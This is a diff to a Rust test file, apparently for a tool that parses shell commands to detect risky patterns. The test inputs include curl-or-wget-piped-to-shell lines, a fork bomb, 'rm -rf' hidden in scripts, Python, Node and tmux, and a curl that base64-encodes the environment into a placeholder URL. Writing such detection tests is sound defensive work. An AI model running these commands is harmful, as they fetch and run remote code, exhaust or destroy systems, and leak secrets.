@@ -299,8 +299,46 @@ fn surroundings() {
             ("echo a $X | cat", "~ a $(…)\n"),
         ],
     );
-    for (command, expected) in [("curl x | sudo sh", "sudo, sh, $(…)"), ("a | b | c", "b, c"), ("curl a; b | sh", "")]
-    {
+    check(
+        "uses_output_of",
+        &[
+            ("docker rm -f $(docker ps -aq)", "docker"),
+            ("curl \"https://x/?d=$(env | base64)\"", "env, base64"),
+            ("find . | xargs rm", "find"),
+            ("ls", ""),
+        ],
+    );
+    for (command, expected) in [
+        ("curl x | sh", "curl"),
+        ("bash -c \"$(curl x)\"", "curl"),
+        ("bash <(curl x)", "curl"),
+        ("eval \"$(wget -qO- x)\"", "wget"),
+        ("curl -o i.sh x; sh i.sh", "curl"),
+        ("irm x | iex", "irm"),
+        ("curl x | jq .", ""),
+        ("sh build.sh", ""),
+    ] {
+        let found = format!("commands.exists(c, c.runs_output_of.exists(p, p == \"{expected}\"))");
+        let none = "commands.all(c, c.runs_output_of.size() == 0)".to_owned();
+        assert_eq!(shown(command, if expected.is_empty() { &none } else { &found }), "true", "{command}");
+    }
+    for (command, expected) in [(":(){ :|:& };:", "true"), ("f() { make; }; f & f", "false")] {
+        assert_eq!(shown(command, "commands.exists(c, c.multiplies)"), expected, "{command}");
+    }
+    for (command, expected) in [
+        ("echo 'rm -rf /x' > a.sh && bash a.sh", "true"),
+        ("cat > a.sh <<E\nrm -rf /x\nE\nchmod +x a.sh && ./a.sh", "true"),
+        ("echo 'rm -rf /x' | tee a.sh; sh ./a.sh", "true"),
+        ("python3 -c \"import os; os.system('rm -rf /x')\"", "true"),
+        ("node -e \"require('child_process').execSync('rm -rf /x')\"", "true"),
+        ("tmux send-keys -t 0 'rm -rf /x' Enter", "true"),
+        ("echo 'rm -rf /x' > a.sh", "false"),
+        ("echo 'rm -rf /x' > a.sh; cat a.sh", "false"),
+        ("python3 -c \"print('rm -rf /x')\"", "false"),
+    ] {
+        assert_eq!(shown(command, "commands.exists(c, c.program == \"rm\")"), expected, "{command}");
+    }
+    for (command, expected) in [("curl x | sudo sh", "sudo, sh"), ("a | b | c", "b, c"), ("curl a; b | sh", "")] {
         assert_eq!(shown(command, "commands[0].pipes_to"), expected, "{command}");
     }
     check(
